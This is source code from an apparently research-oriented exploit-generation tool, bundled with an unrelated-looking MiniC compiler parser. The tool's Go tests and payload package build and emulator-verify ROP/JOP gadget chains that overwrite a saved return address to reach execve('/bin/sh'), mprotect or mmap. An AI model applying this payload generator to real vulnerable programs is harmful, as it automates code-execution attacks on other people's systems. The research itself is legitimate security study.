	if err := p.expect(")"); err != nil {
		return nil, err
	}
	body, err := p.parseBlock()
	if err != nil {
		return nil, err
	}
	fn.Body = body
	return fn, nil
}

func (p *parser) parseBlock() (*BlockStmt, error) {
	if err := p.expect("{"); err != nil {
		return nil, err
	}
	blk := &BlockStmt{}
	for !p.isPunct("}") {
		if p.peek().Kind == TokEOF {
			return nil, p.errf("unterminated block")
		}
		s, err := p.parseStmt()
		if err != nil {
			return nil, err
		}
		blk.Stmts = append(blk.Stmts, s)
	}
	p.next()
	return blk, nil
}

func (p *parser) parseStmt() (Stmt, error) {
	switch {
	case p.isPunct("{"):
		return p.parseBlock()
	case p.isKeyword("int") || p.isKeyword("char"):
		return p.parseDeclStmt()
	case p.accept("if"):
		if err := p.expect("("); err != nil {
			return nil, err
		}
		cond, err := p.parseExpr()
		if err != nil {
			return nil, err
		}
		if err := p.expect(")"); err != nil {
			return nil, err
		}
		then, err := p.parseStmt()
		if err != nil {
			return nil, err
		}
		st := &IfStmt{Cond: cond, Then: then}
		if p.accept("else") {
			els, err := p.parseStmt()
			if err != nil {
				return nil, err
			}
			st.Else = els
		}
		return st, nil
	case p.accept("while"):
		if err := p.expect("("); err != nil {
			return nil, err
		}
		cond, err := p.parseExpr()
		if err != nil {
			return nil, err
		}
		if err := p.expect(")"); err != nil {
			return nil, err
		}
		body, err := p.parseStmt()
		if err != nil {
			return nil, err
		}
		return &WhileStmt{Cond: cond, Body: body}, nil
	case p.accept("for"):
		return p.parseFor()
	case p.accept("return"):
		st := &ReturnStmt{Line: p.line()}
		if !p.isPunct(";") {
			e, err := p.parseExpr()
			if err != nil {
				return nil, err
			}
			st.Val = e
		}
		return st, p.expect(";")
	case p.accept("break"):
		return &BreakStmt{Line: p.line()}, p.expect(";")
	case p.accept("continue"):
		return &ContinueStmt{Line: p.line()}, p.expect(";")
	case p.accept(";"):
		return &BlockStmt{}, nil
	default:
		return p.parseSimpleStmt()
	}
}

func (p *parser) parseDeclStmt() (Stmt, error) {
	base, err := p.parseBaseType()
	if err != nil {
		return nil, err
	}
	typ, name, err := p.parseDeclarator(base)
	if err != nil {
		return nil, err
	}
	st := &DeclStmt{Name: name, Type: typ, Line: p.line()}
	if p.accept("=") {
		e, err := p.parseExpr()
		if err != nil {
			return nil, err
		}
		st.Init = e
	}
	return st, p.expect(";")
}

func (p *parser) parseFor() (Stmt, error) {
	if err := p.expect("("); err != nil {
		return nil, err
	}
	st := &ForStmt{}
	if !p.isPunct(";") {
		if p.isKeyword("int") || p.isKeyword("char") {
			init, err := p.parseDeclStmt()
			if err != nil {
				return nil, err
			}
			st.Init = init
		} else {
			init, err := p.parseSimpleNoSemi()
			if err != nil {
				return nil, err
			}
			st.Init = init
			if err := p.expect(";"); err != nil {
				return nil, err
			}
		}
	} else {
		p.next()
	}
	if !p.isPunct(";") {
		cond, err := p.parseExpr()
		if err != nil {
			return nil, err
		}
		st.Cond = cond
	}
	if err := p.expect(";"); err != nil {
		return nil, err
	}
	if !p.isPunct(")") {
		post, err := p.parseSimpleNoSemi()
		if err != nil {
			return nil, err
		}
		st.Post = post
	}
	if err := p.expect(")"); err != nil {
		return nil, err
	}
	body, err := p.parseStmt()
	if err != nil {
		return nil, err
	}
	st.Body = body
	return st, nil
}

// parseSimpleStmt parses an assignment or expression statement ending in ';'.
func (p *parser) parseSimpleStmt() (Stmt, error) {
	st, err := p.parseSimpleNoSemi()
	if err != nil {
		return nil, err
	}
	return st, p.expect(";")
}

// parseSimpleNoSemi parses assignment forms (=, op=, ++, --) or a bare
// expression, without the trailing semicolon.
func (p *parser) parseSimpleNoSemi() (Stmt, error) {
	line := p.line()
	lhs, err := p.parseExpr()
	if err != nil {
		return nil, err
	}
	t := p.peek()
	if t.Kind == TokPunct {
		switch t.Str {
		case "=":
			p.next()
			rhs, err := p.parseExpr()
			if err != nil {
				return nil, err
			}
			return &AssignStmt{LHS: lhs, RHS: rhs, Line: line}, nil
		case "+=", "-=", "*=", "/=", "%=":
			p.next()
			rhs, err := p.parseExpr()
			if err != nil {
				return nil, err
			}
			op := t.Str[:1]
			return &AssignStmt{LHS: lhs, RHS: &BinExpr{Op: op, X: lhs, Y: rhs, Line: line}, Line: line}, nil
		case "++", "--":
			p.next()
			op := t.Str[:1]
			one := &IntLit{Val: 1, Line: line}
			return &AssignStmt{LHS: lhs, RHS: &BinExpr{Op: op, X: lhs, Y: one, Line: line}, Line: line}, nil
		}
	}
	return &ExprStmt{X: lhs}, nil
}

// Operator precedence (loosest first).
var _precedence = [][]string{
	{"||"},
	{"&&"},
	{"|"},
	{"^"},
	{"&"},
	{"==", "!="},
	{"<", "<=", ">", ">="},
	{"<<", ">>"},
	{"+", "-"},
	{"*", "/", "%"},
}

func (p *parser) parseExpr() (Expr, error) { return p.parseBin(0) }

func (p *parser) parseBin(level int) (Expr, error) {
	if level >= len(_precedence) {
		return p.parseUnary()
	}
	lhs, err := p.parseBin(level + 1)
	if err != nil {
		return nil, err
	}
	for {
		t := p.peek()
		if t.Kind != TokPunct || !stringIn(t.Str, _precedence[level]) {
			return lhs, nil
		}
		p.next()
		rhs, err := p.parseBin(level + 1)
		if err != nil {
			return nil, err
		}
		lhs = &BinExpr{Op: t.Str, X: lhs, Y: rhs, Line: t.Line}
	}
}

func stringIn(s string, set []string) bool {
	for _, x := range set {
		if x == s {
			return true
		}
	}
	return false
}

func (p *parser) parseUnary() (Expr, error) {
	t := p.peek()
	if t.Kind == TokPunct {
		switch t.Str {
		case "-", "!", "~", "*", "&":
			p.next()
			x, err := p.parseUnary()
			if err != nil {
				return nil, err
			}
			return &UnExpr{Op: t.Str, X: x, Line: t.Line}, nil
		case "+":
			p.next()
			return p.parseUnary()
		}
	}
	return p.parsePostfix()
}

func (p *parser) parsePostfix() (Expr, error) {
	x, err := p.parsePrimary()
	if err != nil {
		return nil, err
	}
	for {
		switch {
		case p.accept("["):
			idx, err := p.parseExpr()
			if err != nil {
				return nil, err
			}
			if err := p.expect("]"); err != nil {
				return nil, err
			}
			x = &IndexExpr{X: x, Index: idx, Line: p.line()}
		default:
			return x, nil
		}
	}
}

func (p *parser) parsePrimary() (Expr, error) {
	t := p.next()
	switch t.Kind {
	case TokInt, TokChar:
		return &IntLit{Val: t.Int, Line: t.Line}, nil
	case TokString:
		return &StrLit{Val: t.Str, Line: t.Line}, nil
	case TokIdent:
		if p.isPunct("(") {
			p.next()
			call := &CallExpr{Name: t.Str, Line: t.Line}
			for !p.isPunct(")") {
				a, err := p.parseExpr()
				if err != nil {
					return nil, err
				}
				call.Args = append(call.Args, a)
				if !p.accept(",") {
					break
				}
			}
			return call, p.expect(")")
		}
		return &Ident{Name: t.Str, Line: t.Line}, nil
	case TokPunct:
		if t.Str == "(" {
			e, err := p.parseExpr()
			if err != nil {
				return nil, err
			}
			return e, p.expect(")")
		}
	case TokKeyword:
		if t.Str == "sizeof" {
			if err := p.expect("("); err != nil {
				return nil, err
			}
			base, err := p.parseBaseType()
			if err != nil {
				return nil, err
			}
			typ := base
			for p.accept("*") {
				typ = PtrTo(typ)
			}
			if err := p.expect(")"); err != nil {
				return nil, err
			}
			return &IntLit{Val: int64(typ.Size()), Line: t.Line}, nil
		}
	}
	p.pos--
	return nil, p.errf("unexpected token %q", t)
}
