package minic

// Type is a MiniC type.
type Type struct {
	Kind TypeKind
	Elem *Type // pointer/array element
	Len  int   // array length
}

// TypeKind enumerates type kinds.
type TypeKind uint8

// Type kinds.
const (
	TypeVoid TypeKind = iota
	TypeInt           // 64-bit signed
	TypeChar          // 8-bit
	TypePtr
	TypeArray
)

// Size returns the type's size in bytes.
func (t *Type) Size() int {
	switch t.Kind {
	case TypeInt, TypePtr:
		return 8
	case TypeChar:
		return 1
	case TypeArray:
		return t.Len * t.Elem.Size()
	}
	return 0
}

// IsScalar reports whether values of the type fit a register.
func (t *Type) IsScalar() bool {
	return t.Kind == TypeInt || t.Kind == TypeChar || t.Kind == TypePtr
}

// String renders the type.
func (t *Type) String() string {
	switch t.Kind {
	case TypeVoid:
		return "void"
	case TypeInt:
		return "int"
	case TypeChar:
		return "char"
	case TypePtr:
		return t.Elem.String() + "*"
	case TypeArray:
		return t.Elem.String() + "[]"
	}
	return "?"
}

// Common type singletons.
var (
	IntType  = &Type{Kind: TypeInt}
	CharType = &Type{Kind: TypeChar}
	VoidType = &Type{Kind: TypeVoid}
)

// PtrTo returns a pointer type.
func PtrTo(elem *Type) *Type { return &Type{Kind: TypePtr, Elem: elem} }

// ArrayOf returns an array type.
func ArrayOf(elem *Type, n int) *Type { return &Type{Kind: TypeArray, Elem: elem, Len: n} }

// Program is a parsed translation unit.
type Program struct {
	Globals []*Global
	Funcs   []*FuncDecl
}

// Global is a file-scope variable.
type Global struct {
	Name string
	Type *Type
	// Init is the scalar initializer expression (nil if zero).
	Init Expr
	// ArrayInit initializes int/char arrays.
	ArrayInit []Expr
	// StrInit initializes char arrays from a string literal.
	StrInit string
	HasStr  bool
	Line    int
}

// FuncDecl is a function definition.
type FuncDecl struct {
	Name   string
	Ret    *Type
	Params []Param
	Body   *BlockStmt
	Line   int
}

// Param is a function parameter.
type Param struct {
	Name string
	Type *Type
}

// Stmt is a statement node.
type Stmt interface{ stmtNode() }

// Statements.
type (
	// BlockStmt is { ... }.
	BlockStmt struct{ Stmts []Stmt }
	// DeclStmt declares a local variable with optional initializer.
	DeclStmt struct {
		Name string
		Type *Type
		Init Expr
		Line int
	}
	// ExprStmt evaluates an expression for side effects.
	ExprStmt struct{ X Expr }
	// IfStmt is if/else.
	IfStmt struct {
		Cond Expr
		Then Stmt
		Else Stmt // may be nil
	}
	// WhileStmt is a while loop.
	WhileStmt struct {
		Cond Expr
		Body Stmt
	}
	// ForStmt is a for loop.
	ForStmt struct {
		Init Stmt // may be nil
		Cond Expr // may be nil
		Post Stmt // may be nil
		Body Stmt
	}
	// ReturnStmt returns from the function.
	ReturnStmt struct {
		Val  Expr // may be nil
		Line int
	}
	// BreakStmt exits the innermost loop.
	BreakStmt struct{ Line int }
	// ContinueStmt continues the innermost loop.
	ContinueStmt struct{ Line int }
	// AssignStmt is lhs = rhs (lhs is an lvalue expression).
	AssignStmt struct {
		LHS  Expr
		RHS  Expr
		Line int
	}
)

func (*BlockStmt) stmtNode()    {}
func (*DeclStmt) stmtNode()     {}
func (*ExprStmt) stmtNode()     {}
func (*IfStmt) stmtNode()       {}
func (*WhileStmt) stmtNode()    {}
func (*ForStmt) stmtNode()      {}
func (*ReturnStmt) stmtNode()   {}
func (*BreakStmt) stmtNode()    {}
func (*ContinueStmt) stmtNode() {}
func (*AssignStmt) stmtNode()   {}

// Expr is an expression node.
type Expr interface{ exprNode() }

// Expressions.
type (
	// IntLit is an integer or character literal.
	IntLit struct {
		Val  int64
		Line int
	}
	// StrLit is a string literal (decays to char*).
	StrLit struct {
		Val  string
		Line int
	}
	// Ident references a variable.
	Ident struct {
		Name string
		Line int
	}
	// BinExpr is a binary operation.
	BinExpr struct {
		Op   string // + - * / % & | ^ << >> < <= > >= == != && ||
		X, Y Expr
		Line int
	}
	// UnExpr is a unary operation.
	UnExpr struct {
		Op   string // - ! ~ * &
		X    Expr
		Line int
	}
	// IndexExpr is a[i].
	IndexExpr struct {
		X, Index Expr
		Line     int
	}
	// CallExpr is f(args...).
	CallExpr struct {
		Name string
		Args []Expr
		Line int
	}
)

func (*IntLit) exprNode()    {}
func (*StrLit) exprNode()    {}
func (*Ident) exprNode()     {}
func (*BinExpr) exprNode()   {}
func (*UnExpr) exprNode()    {}
func (*IndexExpr) exprNode() {}
func (*CallExpr) exprNode()  {}
