package minic

import "testing"

// FuzzParse asserts the front end never panics on arbitrary source and
// that accepted programs re-lex cleanly.
func FuzzParse(f *testing.F) {
	f.Add("int main() { return 0; }")
	f.Add("int a[3] = {1,2,3}; char s[] = \"x\"; int main() { return a[0] + s[0]; }")
	f.Add("int f(int x) { if (x) return f(x-1); return 0; } int main() { return f(3); }")
	f.Add("int main() { int i; for (i=0;i<9;i++) { if (i%2) continue; } while(0){} return i; }")
	f.Add("/* c */ int main() { return 'a' + 0x1F - sizeof(int*); } // t")
	f.Fuzz(func(t *testing.T, src string) {
		prog, err := Parse(src)
		if err != nil {
			return
		}
		if prog == nil {
			t.Fatal("nil program without error")
		}
	})
}
