package payload

import (
	"errors"
	"strings"
	"testing"

	"github.com/nofreelunch/gadget-planner/internal/asm"
	"github.com/nofreelunch/gadget-planner/internal/gadget"
	"github.com/nofreelunch/gadget-planner/internal/planner"
	"github.com/nofreelunch/gadget-planner/internal/sbf"
	"github.com/nofreelunch/gadget-planner/internal/subsume"
)

const stackBase = uint64(0x7FFF_8000)

func buildBin(t *testing.T, src string) (*sbf.Binary, *gadget.Pool) {
	t.Helper()
	r, err := asm.Assemble(src, 0x401000)
	if err != nil {
		t.Fatal(err)
	}
	bin := sbf.New()
	bin.AddSection(sbf.Section{
		Name: ".text", Addr: 0x401000, Flags: sbf.FlagRead | sbf.FlagExec, Data: r.Code,
	})
	pool := gadget.Extract(bin, gadget.Options{})
	min, _ := subsume.Minimize(pool, subsume.Options{})
	return bin, min
}

// endToEnd plans, concretizes and emulator-verifies a goal against a gadget
// corpus, returning the verified payload.
func endToEnd(t *testing.T, src string, goal planner.Goal) *Payload {
	t.Helper()
	bin, pool := buildBin(t, src)
	conc := NewConcretizer(pool, bin, stackBase)
	var got *Payload
	res := planner.Search(pool, goal, planner.Options{
		MaxPlans: 1,
		Validate: func(p *planner.Plan) bool {
			pl, err := conc.Concretize(p, goal)
			if err != nil {
				t.Logf("concretize rejected plan %s: %v", p, err)
				return false
			}
			if err := Verify(bin, pl, 0); err != nil {
				t.Logf("verify rejected plan %s: %v", p, err)
				return false
			}
			got = pl
			return true
		},
	})
	if len(res.Plans) == 0 || got == nil {
		t.Fatalf("no verified payload (expanded=%d rejected=%d)", res.Expanded, res.Rejected)
	}
	return got
}

const classicGadgets = `
    pop rax
    ret
    pop rdi
    ret
    pop rsi
    ret
    pop rdx
    ret
    pop r10
    ret
    syscall
`

func TestExecveEndToEnd(t *testing.T) {
	p := endToEnd(t, classicGadgets, planner.ExecveGoal())
	if len(p.Bytes) == 0 {
		t.Fatal("empty payload")
	}
	if !strings.Contains(string(p.Bytes), "/bin/sh\x00") {
		t.Error("payload does not embed /bin/sh")
	}
	if p.Dump() == "" {
		t.Error("empty dump")
	}
}

func TestMprotectEndToEnd(t *testing.T) {
	// The binary needs a writable page at the mprotect target.
	src := classicGadgets
	bin, pool := buildBin(t, src)
	bin.AddSection(sbf.Section{
		Name: ".data", Addr: 0x601000, Flags: sbf.FlagRead | sbf.FlagWrite,
		Data: make([]byte, 0x1000),
	})
	goal := planner.MprotectGoal(0x601000)
	conc := NewConcretizer(pool, bin, stackBase)
	verified := false
	planner.Search(pool, goal, planner.Options{
		MaxPlans: 1,
		Validate: func(p *planner.Plan) bool {
			pl, err := conc.Concretize(p, goal)
			if err != nil {
				return false
			}
			if err := Verify(bin, pl, 0); err != nil {
				return false
			}
			verified = true
			return true
		},
	})
	if !verified {
		t.Fatal("no verified mprotect payload")
	}
}

func TestMmapEndToEnd(t *testing.T) {
	endToEnd(t, classicGadgets, planner.MmapGoal())
}

func TestJOPChainEndToEnd(t *testing.T) {
	// rdi only settable via a jmp-register gadget: the planner must route
	// control through rax.
	src := `
    pop rax
    ret
    pop rdi
    jmp rax
    pop rsi
    ret
    pop rdx
    ret
    syscall
`
	p := endToEnd(t, src, planner.ExecveGoal())
	hasJOP := false
	for _, g := range p.Chain {
		if g.JmpType == gadget.TypeUIJ {
			hasJOP = true
		}
	}
	if !hasJOP {
		t.Errorf("chain avoids the mandatory JOP gadget: %v", p.Chain)
	}
}

func TestConditionalChainEndToEnd(t *testing.T) {
	// rsi only settable through a gadget whose tail is guarded by a
	// conditional jump requiring rcx == rbx (Fig. 4(b) shape): starting
	// after the pop skips the rsi effect, so every rsi producer carries the
	// condition. The planner must arrange the equality.
	src := `
    pop rax
    ret
    pop rdi
    ret
    pop rsi
    cmp rcx, rbx
    jne trap
    ret
trap:
    hlt
    pop rdx
    ret
    pop rcx
    ret
    pop rbx
    ret
    syscall
`
	p := endToEnd(t, src, planner.ExecveGoal())
	hasCond := false
	for _, g := range p.Chain {
		if g.HasCond {
			hasCond = true
		}
	}
	if !hasCond {
		t.Errorf("chain avoids the conditional gadget: %v", p.Chain)
	}
}

func TestMergedGadgetChain(t *testing.T) {
	// rdx only settable via a gadget split across a direct jump (the Fig. 6
	// situation: no "pop rdx; ret" exists as a contiguous sequence).
	src := `
    pop rax
    ret
    pop rdi
    ret
    pop rsi
    ret
half:
    pop rdx
    jmp fin
    hlt
fin:
    ret
    syscall
`
	p := endToEnd(t, src, planner.ExecveGoal())
	hasMerged := false
	for _, g := range p.Chain {
		if g.Merged {
			hasMerged = true
		}
	}
	if !hasMerged {
		t.Errorf("chain avoids the merged gadget: %v", p.Chain)
	}
}

func TestSideEffectGadgets(t *testing.T) {
	// Gadgets with extra pops force the concretizer to lay out skipped
	// payload slots correctly.
	src := `
    pop rax
    pop rbp
    ret
    pop rdi
    pop r11
    ret
    pop rsi
    ret
    pop rdx
    ret
    syscall
`
	endToEnd(t, src, planner.ExecveGoal())
}

func TestConcretizeRejectsUncontrolled(t *testing.T) {
	// A chain whose only rax producer copies from an uncontrolled register
	// with no upstream setter must fail concretization.
	src := `
    mov rax, r15
    ret
    pop rdi
    ret
    pop rsi
    ret
    pop rdx
    ret
    syscall
`
	bin, pool := buildBin(t, src)
	_ = bin
	goal := planner.ExecveGoal()
	conc := NewConcretizer(pool, bin, stackBase)
	sawUncontrolled := false
	res := planner.Search(pool, goal, planner.Options{
		MaxPlans: 1,
		Validate: func(p *planner.Plan) bool {
			_, err := conc.Concretize(p, goal)
			if errors.Is(err, ErrUncontrolled) {
				sawUncontrolled = true
			}
			return err == nil
		},
	})
	// Either the planner already regresses to r15 (needing a setter that
	// does not exist -> no plans), or concretization catches it.
	if len(res.Plans) != 0 && !sawUncontrolled {
		t.Error("uncontrolled dependency not detected")
	}
}

func TestPayloadSlotsHoldChainAddresses(t *testing.T) {
	p := endToEnd(t, classicGadgets, planner.ExecveGoal())
	// Bytes[0:8] must be the first gadget's address.
	var first uint64
	for i := 7; i >= 0; i-- {
		first = first<<8 | uint64(p.Bytes[i])
	}
	if first != p.Entry {
		t.Errorf("payload[0] = %#x, entry = %#x", first, p.Entry)
	}
}

func TestVerifyRejectsCorruptPayload(t *testing.T) {
	bin, pool := buildBin(t, classicGadgets)
	goal := planner.ExecveGoal()
	conc := NewConcretizer(pool, bin, stackBase)
	var pl *Payload
	planner.Search(pool, goal, planner.Options{
		MaxPlans: 1,
		Validate: func(p *planner.Plan) bool {
			var err error
			pl, err = conc.Concretize(p, goal)
			return err == nil
		},
	})
	if pl == nil {
		t.Fatal("no payload")
	}
	// Sanity: it verifies intact.
	if err := Verify(bin, pl, 0); err != nil {
		t.Fatalf("intact payload fails: %v", err)
	}
	// Corrupt the syscall-number slot region: flip payload bytes.
	bad := &Payload{Bytes: append([]byte(nil), pl.Bytes...), Base: pl.Base, Entry: pl.Entry, Chain: pl.Chain, Goal: pl.Goal}
	for i := 8; i < len(bad.Bytes); i++ {
		bad.Bytes[i] ^= 0xFF
	}
	if err := Verify(bin, bad, 0); err == nil {
		t.Error("corrupt payload verified")
	}
}
