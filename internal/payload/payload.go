// Package payload implements Gadget-Planner's post-processing stage (paper
// Section IV-A step 4): a complete partial-order plan is linearized, the
// gadget chain is walked forward symbolically over the concrete payload
// layout, every residual constraint (conditional-jump pre-conditions,
// indirect-branch targets, goal register values, slot demands) is collected
// and discharged with the SMT solver, and the model becomes the byte
// payload placed on the victim's stack.
//
// The package also verifies payloads by running them in the emulator and
// observing the goal syscall — the ground-truth check.
package payload

import (
	"encoding/binary"
	"errors"
	"fmt"
	"sort"

	"github.com/nofreelunch/gadget-planner/internal/emu"
	"github.com/nofreelunch/gadget-planner/internal/expr"
	"github.com/nofreelunch/gadget-planner/internal/gadget"
	"github.com/nofreelunch/gadget-planner/internal/isa"
	"github.com/nofreelunch/gadget-planner/internal/planner"
	"github.com/nofreelunch/gadget-planner/internal/sbf"
	"github.com/nofreelunch/gadget-planner/internal/solver"
	"github.com/nofreelunch/gadget-planner/internal/symex"
)

// Concretization failures.
var (
	// ErrUncontrolled marks plans whose constraints depend on machine state
	// the attacker does not control (registers at injection time, memory
	// below the overflow).
	ErrUncontrolled = errors.New("payload: constraint depends on uncontrolled state")
	// ErrUnsat marks plans whose collected constraints are unsatisfiable.
	ErrUnsat = errors.New("payload: constraints unsatisfiable")
	// ErrLayout marks irreconcilable payload-cell layouts.
	ErrLayout = errors.New("payload: conflicting payload layout")
)

// Payload is a concrete, injectable attack payload.
type Payload struct {
	// Bytes is the data written at the overflow: Bytes[0:8] overwrites the
	// victim's saved return address.
	Bytes []byte
	// Base is the stack address Bytes[0] will occupy.
	Base uint64
	// Entry is the first gadget's address (== Bytes[0:8] little-endian).
	Entry uint64
	// Chain is the linearized gadget sequence.
	Chain []*gadget.Gadget
	// Goal is the attack this payload triggers.
	Goal planner.Goal
}

// cell is one attacker-controlled payload slot.
type cell struct {
	absOff int64 // offset of the slot within the payload buffer
	size   uint8
	v      *expr.Node
}

// Concretizer turns plans into payloads for a fixed injection address.
type Concretizer struct {
	pool *gadget.Pool
	// bin resolves constant-address reads from immutable sections (jump
	// tables and other data embedded in text).
	bin *sbf.Binary
	// Base is the absolute stack address where the payload will be placed
	// (the overwritten return-address slot). The threat model assumes the
	// attacker knows it (ASLR disabled or leaked, Section III-A).
	Base uint64
	// MaxConflicts bounds each solver query.
	MaxConflicts int64
	// DisableTriage turns off the solver's concrete-refutation tiers for
	// verdict queries (A/B benchmarking; results are identical).
	DisableTriage bool

	// sol is reused across Concretize calls so its verdict cache memoizes
	// repeated universal-validity checks — e.g. opaque predicates, which
	// hold for every value of the junk global they load — and its witness
	// store carries counterexamples (e.g. refuted controllability checks)
	// between plans.
	sol *solver.Solver
}

// NewConcretizer returns a concretizer for the pool's expression builder.
// bin may be nil when static-data resolution is not wanted.
func NewConcretizer(pool *gadget.Pool, bin *sbf.Binary, base uint64) *Concretizer {
	return &Concretizer{
		pool: pool, bin: bin, Base: base, MaxConflicts: 100_000,
	}
}

// solver returns the concretizer's solver, created on first use (so a
// MaxConflicts override set after construction still takes effect).
func (c *Concretizer) solver() *solver.Solver {
	if c.sol == nil {
		c.sol = solver.New(solver.Options{
			MaxConflicts:  c.MaxConflicts,
			DisableTriage: c.DisableTriage,
		})
	}
	return c.sol
}

// staticRead resolves a constant-address load against the binary's
// non-writable sections (whose contents cannot change at run time).
func (c *Concretizer) staticRead(addr uint64, size uint8) (uint64, bool) {
	if c.bin == nil {
		return 0, false
	}
	sec := c.bin.SectionAt(addr)
	if sec == nil || sec.Flags&sbf.FlagWrite != 0 ||
		addr+uint64(size) > sec.End() {
		return 0, false
	}
	var v uint64
	off := addr - sec.Addr
	for i := int(size) - 1; i >= 0; i-- {
		v = v<<8 | uint64(sec.Data[off+uint64(i)])
	}
	return v, true
}

// cellVarName names the payload cell at an absolute payload offset.
func cellVarName(absOff int64) string { return fmt.Sprintf("cell_%d", absOff) }

// parseCellVar recovers the offset from a cell variable name.
func parseCellVar(name string) (int64, bool) {
	var off int64
	if _, err := fmt.Sscanf(name, "cell_%d", &off); err != nil {
		return 0, false
	}
	return off, true
}

// Concretize builds the payload bytes realizing the plan, or explains why
// the plan is infeasible.
func (c *Concretizer) Concretize(p *planner.Plan, goal planner.Goal) (*Payload, error) {
	b := c.pool.Builder
	chain := p.Chain()
	if len(chain) == 0 {
		return nil, fmt.Errorf("payload: empty chain")
	}

	cells := make(map[int64]*cell)  // payload slots, by absolute offset
	writes := make(map[int64]wcell) // gadget stores into the payload region
	var constraints []*expr.Node
	fresh := 0

	getCell := func(absOff int64, size uint8) (*expr.Node, error) {
		if existing, ok := cells[absOff]; ok {
			if existing.size != size {
				return nil, fmt.Errorf("%w: slot %d at sizes %d and %d", ErrLayout, absOff, existing.size, size)
			}
			return existing.v, nil
		}
		for off, ex := range cells {
			if off != absOff && off < absOff+int64(size) && absOff < off+int64(ex.size) {
				return nil, fmt.Errorf("%w: overlapping slots %d and %d", ErrLayout, off, absOff)
			}
		}
		v := b.Var(cellVarName(absOff), 64)
		cells[absOff] = &cell{absOff: absOff, size: size, v: v}
		return v, nil
	}

	// Symbolic register state across the chain. Registers start as fresh
	// uncontrolled variables; any surviving reference to them means the
	// plan depends on uncontrolled state.
	be := c.pool.Backend()
	regState := make([]*expr.Node, be.NumRegs())
	for r := range regState {
		regState[r] = b.Var(fmt.Sprintf("init_%s", be.RegName(isa.Reg(r))), 64)
	}

	// cur tracks where the current gadget's entry rsp points inside the
	// payload: the victim's ret consumes Bytes[0:8], so the first gadget
	// starts with rsp at offset 8.
	cur := int64(8)
	if _, err := getCell(0, 8); err != nil {
		return nil, err
	}
	constraints = append(constraints, b.Eq(cells[0].v, b.Const(chain[0].Location, 64)))

	// Scratch region for controlled-memory dereferences: past any plausible
	// chain extent (chains longer than this fail concretization) but close
	// enough to keep payloads compact for real injection vectors.
	const scratchStart = int64(0x200)
	scratch := scratchStart
	usedScratch := false

	for i, g := range chain {
		// Bind the gadget's local variable namespace (dm_* deref results are
		// bound below, in program order, since later addresses may depend on
		// earlier reads).
		bind := make(map[string]*expr.Node)
		names := effectVars(g.Effect)
		for _, name := range names {
			switch {
			case symex.IsDerefVar(name):
				// bound below
			case isStack(name):
				off, _ := symex.ParseStackVar(name)
				abs := cur + off
				size := g.Effect.Inputs[off]
				if size == 0 {
					size = 8
				}
				node, err := c.resolveRead(b, abs, size, cells, writes, getCell)
				if err != nil {
					return nil, err
				}
				bind[name] = node
			case isReg(name):
				r, _ := symex.IsRegVar(name)
				bind[name] = regState[r]
			default:
				// Flags and opaque variables: fresh uncontrolled values.
				fresh++
				width := uint8(expr.BoolWidth)
				bind[name] = b.Var(fmt.Sprintf("unk_%d", fresh), width)
			}
		}

		// Controlled-memory accesses: each group of addresses sharing a base
		// (constant mutual offsets, e.g. [rbp-0x30] and [rbp-0x40]) gets one
		// scratch window; the anchor address is pinned by a constraint and
		// the other members follow from their fixed geometry. Read values
		// become the payload cells at the resolved offsets (paper Section
		// IV-B's unconstrained deref values).
		type derefGroup struct {
			ea     *expr.Node
			anchor int64
			lo, hi int64
		}
		var groups []derefGroup
		place := func(eaInst *expr.Node, size uint8) (int64, error) {
			for _, grp := range groups {
				diff := b.Sub(eaInst, grp.ea)
				if diff.IsConst() {
					off := grp.anchor + int64(diff.Val)
					if off < grp.lo || off+int64(size) > grp.hi {
						return 0, fmt.Errorf("%w: deref offset outside scratch window", ErrLayout)
					}
					return off, nil
				}
			}
			usedScratch = true
			lo := scratch
			scratch += 512
			grp := derefGroup{ea: eaInst, anchor: lo + 256, lo: lo, hi: scratch}
			groups = append(groups, grp)
			constraints = append(constraints,
				b.Eq(eaInst, b.Const(c.Base+uint64(grp.anchor), 64)))
			return grp.anchor, nil
		}
		for _, acc := range g.Effect.MemReads {
			ea := expr.Subst(b, acc.Addr, bind)
			if ea.IsConst() {
				// Fixed address. Immutable sections (jump tables in text)
				// resolve to their static bytes; writable globals stay
				// ambient, and conditions over them must be universally
				// valid (opaque predicates are).
				if v, ok := c.staticRead(ea.Val, acc.Size); ok {
					bind[acc.Val.Name] = b.Const(v, 64)
					continue
				}
				fresh++
				bind[acc.Val.Name] = b.Var(fmt.Sprintf("amb_%d", fresh), 64)
				continue
			}
			slot, err := place(ea, acc.Size)
			if err != nil {
				return nil, err
			}
			cellNode, err := getCell(slot, acc.Size)
			if err != nil {
				return nil, err
			}
			bind[acc.Val.Name] = cellNode
		}
		for _, acc := range g.Effect.MemWrites {
			ea := expr.Subst(b, acc.Addr, bind)
			if ea.IsConst() {
				continue // store to a fixed writable global: harmless
			}
			if _, err := place(ea, acc.Size); err != nil {
				return nil, err
			}
		}

		// Pre-conditions must hold on this instance.
		for _, cond := range g.Effect.Conds {
			constraints = append(constraints, expr.Subst(b, cond, bind))
		}

		// Control must continue at the next gadget.
		if i+1 < len(chain) {
			if g.Effect.NextRIP == nil {
				return nil, fmt.Errorf("payload: syscall gadget %v before end of chain", g)
			}
			rip := expr.Subst(b, g.Effect.NextRIP, bind)
			constraints = append(constraints, b.Eq(rip, b.Const(chain[i+1].Location, 64)))
		}

		// Apply register effects.
		newState := make([]*expr.Node, len(regState))
		for r := range newState {
			newState[r] = expr.Subst(b, g.Effect.Regs[r], bind)
		}
		regState = newState

		// Record stores into the payload region.
		for off, w := range g.Effect.StackWrites {
			abs := cur + off
			writes[abs] = wcell{val: expr.Subst(b, w.Val, bind), size: w.Size}
		}

		cur += g.Effect.StackDelta
	}

	// Compute the payload extent so pointer data lands past everything.
	// Chain cells must stay below the deref scratch region.
	extent := cur
	for off, cl := range cells {
		if usedScratch && off >= scratchStart {
			continue // scratch slots accounted below
		}
		if end := off + int64(cl.size); end > extent {
			extent = end
		}
	}
	for off, w := range writes {
		if end := off + int64(w.size); end > extent {
			extent = end
		}
	}
	if usedScratch {
		if extent > scratchStart {
			return nil, fmt.Errorf("%w: chain overlaps deref scratch region", ErrLayout)
		}
		extent = scratch
	}
	extent = (extent + 7) &^ 7

	// Goal constraints on the final (syscall-time) register state, placing
	// pointer payloads after the chain.
	type datum struct {
		off  int64
		data []byte
	}
	var data []datum
	goalRegs := make([]isa.Reg, 0, len(goal.Regs))
	for r := range goal.Regs {
		goalRegs = append(goalRegs, r)
	}
	sort.Slice(goalRegs, func(i, j int) bool { return goalRegs[i] < goalRegs[j] })
	for _, r := range goalRegs {
		spec := goal.Regs[r]
		switch spec.Kind {
		case planner.SpecConst:
